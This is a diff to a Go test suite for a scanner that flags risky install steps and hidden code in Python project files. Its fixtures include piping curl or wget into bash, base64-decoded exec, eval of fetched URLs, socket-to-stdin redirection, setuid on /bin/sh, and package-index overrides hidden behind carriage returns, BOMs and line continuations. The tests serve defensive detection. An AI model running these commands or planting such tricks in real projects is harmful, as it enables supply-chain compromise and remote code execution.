@@ -47,7 +47,23 @@ func TestEveryRuleFindsItsLine(t *testing.T) {
 		"install.source   requirements.txt:2":        "# -e .\n-e .\n",
 		"install.source    requirements.txt:1":       "./wheels/a-1-py3-none-any.whl\n",
 		"install.build requirements.txt:1":           "a==1 --no-binary a\n",
+		"install.build  requirements.txt:1":          "a==1 --hash=sha256:ab --glob -x\n",
+		"install.index  requirements.txt:1":          "# hidden\r-i https://x\n",
+		"install.index   requirements.txt:1":         "\ufeff-i https://x\n",
+		"install.index    requirements.txt:2":        "\n\u00a0-i https://x\n",
+		"install.option requirements.txt:1":          "-ihttps://x\n",
+		"install.option  requirements.txt:1":         "--pypi-url https://x\n",
+		"install.option   requirements.txt:1":        "--extra-i=https://x\n",
+		"install.option    requirements.txt:1":       "-egit+https://x/y\n",
+		"install.index     requirements.txt:1":       "--pre --extra-index-url https://x\n",
+		"install.index      requirements.txt:2":      "# hidden \\\n-i https://x\n",
+		"install.index       requirements.txt:3":     "a==1 \\\n# ends it\n-i https://x\n",
+		"install.include requirements.txt:1":         "-r more.in\n",
+		"install.include  requirements.txt:1":        "--constraint=sub/other.txt # requirements.txt\n",
+		"install.encoding requirements.txt:0":        "\xff\xfe-\x00i\x00",
+		"install.encoding  requirements.txt:0":       "# -*- coding: utf-7 -*-\nnumpy==1\n",
 		"install.download Dockerfile:2":              "FROM x\nRUN apt-get update && \\\n    curl -sL https://x/i | bash\n",
+		"install.download     Dockerfile:1":          "RUN curl https://x \\\n# more\n | bash\n",
 		"install.download  Dockerfile:1":             "ADD https://x/y /y\n",
 		"install.download   docker/gpu.Dockerfile:1": "RUN bash <(curl https://x)\n",
 		"install.download    build.sh:1":             "wget -qO- https://x | python3 -\n",
@@ -56,6 +72,7 @@ func TestEveryRuleFindsItsLine(t *testing.T) {
 		"install.source Dockerfile:1":                "RUN pip install git+https://x/y\n",
 		"install.rights Dockerfile:1":                "RUN chmod u+s /bin/sh\n",
 		"code.hidden train.py:2":                     "import base64\nexec(base64.b64decode('aWQ='))\n",
+		"code.hidden   train.py:1":                   "# hidden\rexec('\u2028', b64decode('aWQ='))\n",
 		"code.hidden  train.py:1":                    "eval(urlopen('http://x').read())\n",
 		"code.shell train.py:1":                      "os.dup2(s.fileno(), 0)\n",
 		"install.while-running train.py:1":           "subprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
@@ -76,11 +93,18 @@ func TestEveryRuleFindsItsLine(t *testing.T) {
 
 func TestWhatPackagesReallyDoIsNotRefused(t *testing.T) {
 	if got := checked(t, map[string]string{
-		"requirements.txt": "# torch -i x\nnumpy==2.4.6\npillow==13.0.0 ; python_version > '3.8'\n-r more/requirements.txt\nuvicorn[standard]==1\n",
+		"requirements.txt": "# torch -i x\nnumpy==2.4.6\npillow==13.0.0 ; python_version > '3.8'\n-r more/requirements.txt\nuvicorn[standard]==1\n-c constraints.txt # all -x\n--require-hashes --only-binary :all:\n# coding: utf-8\ntorch==2.0 \\\n    --hash=sha256:ab \\\n    --hash=sha256:cd\n",
 		"Dockerfile":       "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt\nRUN pip install --no-cache-dir -r requirements.txt\nRUN chmod 0755 /x && curl -fsS http://localhost || true\nCOPY . .\n",
 		"train.py":         "model.eval()\nexec_time = 1\nresult = eval('1')\nlog.info('pip install nothing')\n",
 		"weights.pth":      "\x00\x01import\n", ".venv/bin/python": "\x7fELF", "notes.md": "curl https://x | sh",
 	}); len(got) > 0 {
+		t.Errorf("%v", got)
+	}
+}
+
+// A file of nothing but joined lines is read in a moment.
+func TestAMillionJoinedLines(t *testing.T) {
+	if got := checked(t, map[string]string{"Dockerfile": strings.Repeat("\\\n", maxText/2)}); len(got) > 0 {
 		t.Errorf("%v", got)
 	}
 }
